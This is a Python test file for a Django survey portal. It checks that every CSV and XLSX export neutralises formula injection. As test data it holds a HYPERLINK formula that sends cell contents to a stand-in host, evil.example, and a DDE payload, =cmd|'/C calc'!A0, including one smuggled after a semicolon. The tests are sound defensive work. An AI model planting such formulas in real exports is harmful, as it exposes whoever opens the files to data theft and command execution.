"""Every CSV and XLSX download is safe to open in a spreadsheet: no cell runs as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from centres.models import Centre
from network_portal.downloads import neutralise, restore
from surveys.models import Choice, Option, Response, Survey
from tests.helpers import client_for

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите");=cmd|"/C calc"!A0'
FORMULA_OPTIONS = ["=1+2", "+7 (495) на связи", "-2+3", "@SUM(A1:A2)", "\tтаб", "\rвозврат"]
# Characters XML can't hold; they are left out of workbooks, which stay readable.
UNWRITABLE_OPTION = "Нет\ufffeсимвола\uffff\x01"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+7 3452 00-00-00", "'+7 3452 00-00-00"),
        ("-", "'-"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # written so, it reads back so
        ("''+7", "'''+7"),
        ("'quoted'", "'quoted'"),
        # Spreadsheets set up for Russian split CSV files at «;».
        ("Тобольский центр;=cmd|' /C calc'!A0;", "Тобольский центр;'=cmd|' /C calc'!A0;"),
        ("Обучение; -1 место", "Обучение; '-1 место"),
        (" =1+2", " '=1+2"),
        ("\x0b=1+2", "\x0b'=1+2"),
        ("Обучение", "Обучение"),
        ("a=b", "a=b"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(value, safe):
    assert neutralise(value) == safe
    if isinstance(value, str):
        assert restore(neutralise(value)) == value


@pytest.fixture
def hostile(network):
    """A centre named as a formula, options that start like formulas, and answers with them."""
    survey = Survey.objects.get(slug="ural-network-functions")
    Centre.objects.filter(slug="municipal-tobolsk").update(name=FORMULA_NAME)
    question = survey.questions.get(code="rc_functions")
    options = [
        Option.objects.create(question=question, text=text, order=100 + n)
        for n, text in enumerate(FORMULA_OPTIONS)
    ]
    options.append(Option.objects.create(question=question, text=UNWRITABLE_OPTION, order=200))
    response = Response.objects.create(survey=survey, respondent="=cmd|' /C calc'!A0")
    for option in options:
        response.choices.create(option=option)
    return survey


def csv_cells(response):
    return [
        cell for row in csv.reader(io.StringIO(response.content.decode("utf-8"))) for cell in row
    ]


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def downloads(survey):
    """(name, url, needs an admin) of every file the portal writes."""
    return [
        ("registry csv", reverse("centres:export_csv"), False),
        ("results csv", reverse("surveys:results_csv", args=[survey.slug]), False),
        ("results xlsx", reverse("surveys:results_xlsx", args=[survey.slug]), False),
        ("responses csv", reverse("admin:surveys_survey_export_csv", args=[survey.pk]), True),
        ("responses xlsx", reverse("admin:surveys_survey_export_xlsx", args=[survey.pk]), True),
    ]


def test_every_download_neutralises_formulas(hostile, admin_user):
    for name, url, needs_admin in downloads(hostile):
        response = client_for(admin_user if needs_admin else None).get(url)
        assert response.status_code == 200, name
        if url.endswith(".xlsx"):
            cells = xlsx_cells(response)  # a readable workbook, or this fails
            assert any("Нетсимвола" in str(cell.value) for cell in cells), name
            assert not [cell.coordinate for cell in cells if cell.data_type == "f"], name
            texts = [cell.value for cell in cells if isinstance(cell.value, str)]
            # XML reads a carriage return back as a line feed.
            texts += [text.replace("\n", "\r") for text in texts]
        else:
            texts = csv_cells(response)
        parts = [part.lstrip(" ") for text in texts for part in text.split(";")]
        assert not [part for part in parts if part.startswith(TRIGGERS)], name
        if name == "registry csv":
            assert "'" + FORMULA_NAME.replace(";=", ";'=") in texts
        elif name.startswith("results"):
            assert {"'" + text for text in FORMULA_OPTIONS} <= set(texts), name
        else:
            assert "'=cmd|' /C calc'!A0" in texts, name
            assert any(text.startswith("'=1+2") for text in texts), name


def test_numbers_in_the_results_workbook_stay_numbers(hostile):
    response = client_for(None).get(reverse("surveys:results_xlsx", args=[hostile.slug]))
    heading, *rows = load_workbook(io.BytesIO(response.content)).active.iter_rows()
    columns = [cell.value for cell in heading]
    for name in ["Выбрали", "Всего ответов (n)", "Доля, %"]:
        cells = [row[columns.index(name)] for row in rows]
        assert cells and all(cell.data_type == "n" for cell in cells), name


def test_a_neutralised_export_imports_back_as_it_was(hostile, admin_user, tmp_path):
    from io import StringIO

    from django.core.management import call_command

    # A workbook can't carry this option: it goes, once no answer holds it.
    Choice.objects.filter(option__text=UNWRITABLE_OPTION).delete()
    Option.objects.filter(text=UNWRITABLE_OPTION).delete()

    exported = client_for(admin_user).get(
        reverse("admin:surveys_survey_export_xlsx", args=[hostile.pk])
    )
    path = tmp_path / "back.xlsx"
    path.write_bytes(exported.content)
    Response.objects.filter(survey=hostile).delete()
    call_command("import_responses", hostile.slug, str(path), stdout=StringIO())
    back = Response.objects.get(survey=hostile, respondent="=cmd|' /C calc'!A0")
    assert set(FORMULA_OPTIONS) <= set(back.options.values_list("text", flat=True))
